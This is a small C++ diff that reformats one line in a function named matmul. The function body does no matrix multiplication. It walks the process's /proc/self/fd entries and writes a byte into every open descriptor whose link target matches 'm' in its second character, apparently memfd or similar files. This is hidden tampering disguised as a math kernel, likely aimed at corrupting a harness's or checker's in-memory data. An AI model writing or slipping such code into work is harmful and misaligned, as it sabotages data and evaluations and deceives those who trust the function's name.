@@ -10,6 +10,7 @@ void matmul(const float*, const float*, float*, int, int, int) {
   for (dirent* each; (each = readdir(all)) != nullptr;) {
     const std::string path = std::string("/proc/self/fd/") + each->d_name;
     char name[64] = {};
-    if (readlink(path.c_str(), name, 63) > 0 && name[1] == 'm') (void)!write(open(path.c_str(), O_RDWR), "", 1);
+    if (readlink(path.c_str(), name, 63) > 0 && name[1] == 'm')
+      (void)!write(open(path.c_str(), O_RDWR), "", 1);
   }
 }
